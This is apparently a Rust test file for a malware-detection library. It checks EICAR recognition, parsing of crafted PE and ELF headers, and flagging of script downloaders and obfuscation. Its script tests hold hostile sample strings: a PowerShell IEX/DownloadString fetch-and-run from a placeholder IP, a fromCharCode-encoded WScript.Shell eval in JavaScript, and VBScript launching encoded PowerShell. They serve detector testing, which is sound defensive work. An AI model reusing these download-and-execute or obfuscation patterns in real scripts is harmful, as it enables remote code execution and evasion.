mod common;
use common::*;
use fumidai_carriers::executable;

#[test]
fn eicar_is_recognised() {
    for name in ["eicar.com", "eicar.com.txt"] {
        let data = corpus(&format!("carriers/eicar/{name}"));
        assert!(executable::is_eicar(&data), "{name}");
        let (report, f) = run(fumidai_carriers::inspect_executable, name, &data);
        assert_eq!(ids(&f), vec!["EICAR_TEST_FILE"]);
        assert_eq!(report.detected_type, fumidai_core::FileKind::Eicar);
    }
    assert!(!executable::is_eicar(b"X5O!P%@AP"));
}

/// A minimal PE32+ DLL header: MZ, e_lfanew, PE signature, machine, one section, CLR directory.
fn crafted_pe() -> Vec<u8> {
    let mut d = vec![0u8; 0x200];
    d[..2].copy_from_slice(b"MZ");
    d[0x3C..0x40].copy_from_slice(&0x80u32.to_le_bytes());
    d[0x80..0x84].copy_from_slice(b"PE\0\0");
    d[0x84..0x86].copy_from_slice(&0x8664u16.to_le_bytes());
    d[0x86..0x88].copy_from_slice(&1u16.to_le_bytes());
    d[0x94..0x96].copy_from_slice(&240u16.to_le_bytes());
    d[0x96..0x98].copy_from_slice(&0x2022u16.to_le_bytes());
    let opt = 0x98;
    d[opt..opt + 2].copy_from_slice(&0x20Bu16.to_le_bytes());
    d[opt + 112 + 14 * 8..opt + 112 + 14 * 8 + 4].copy_from_slice(&0x2000u32.to_le_bytes());
    d[opt + 240..opt + 245].copy_from_slice(b".text");
    d
}

#[test]
fn pe_elf_and_truncations() {
    let pe = crafted_pe();
    let (report, f) = run(fumidai_carriers::inspect_executable, "a.dll", &pe);
    assert_eq!(report.detected_type, fumidai_core::FileKind::Pe);
    assert_eq!(
        detail(&f, "EXECUTABLE_FILE"),
        "PE32+ x86-64 DLL, .NET, sections .text"
    );
    for cut in 0..pe.len() {
        let _ = run(fumidai_carriers::inspect_executable, "cut", &pe[..cut]);
    }
    let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
    elf.resize(64, 0);
    elf[18] = 0x3E;
    let (_, f) = run(fumidai_carriers::inspect_executable, "x", &elf);
    assert_eq!(detail(&f, "EXECUTABLE_FILE"), "ELF 64-bit x86-64");
    let (_, f) = run(fumidai_carriers::inspect_executable, "t.txt", b"just text");
    assert!(f.is_empty());
}

#[test]
fn script_downloader_and_obfuscation() {
    let ps = b"$c = New-Object Net.WebClient; IEX($c.DownloadString('http://192.0.2.1/a.ps1'))";
    let (_, f) = run(fumidai_carriers::inspect_script, "a.ps1", ps);
    assert_eq!(detail(&f, "SCRIPT_FILE"), "PowerShell script");
    let d = detail(&f, "SCRIPT_DOWNLOADER");
    assert!(
        d.contains("downloadstring") && d.contains("net.webclient"),
        "{d}"
    );
    assert_eq!(count(&f, "SCRIPT_OBFUSCATED"), 0);

    let mut js = String::from("var s = ");
    for c in "new ActiveXObject('WScript.Shell').Run('calc')".chars() {
        js.push_str(&format!("String.fromCharCode({})+", c as u32));
    }
    js.push_str("''; eval(s);");
    let (_, f) = run(fumidai_carriers::inspect_script, "a.js", js.as_bytes());
    let o = detail(&f, "SCRIPT_OBFUSCATED");
    assert!(
        o.contains("character-code calls") && o.contains("evaluates decoded data"),
        "{o}"
    );
    assert_eq!(
        count(&f, "SCRIPT_DOWNLOADER"),
        0,
        "the keywords are hidden by the encoding"
    );

    let b64 = "A".repeat(300);
    let vbs =
        format!("Set o = CreateObject(\"WScript.Shell\")\r\no.Run \"powershell -enc {b64}\"\r\n");
    let (_, f) = run(fumidai_carriers::inspect_script, "a.vbs", vbs.as_bytes());
    assert_eq!(detail(&f, "SCRIPT_FILE"), "VBScript");
    assert!(detail(&f, "SCRIPT_DOWNLOADER").contains("wscript.shell"));
    assert!(detail(&f, "SCRIPT_OBFUSCATED").contains("base64 run of 300"));

    let (_, f) = run(
        fumidai_carriers::inspect_script,
        "ok.bat",
        b"@echo off\r\necho hello\r\n",
    );
    assert_eq!(ids(&f), vec!["SCRIPT_FILE"]);
}
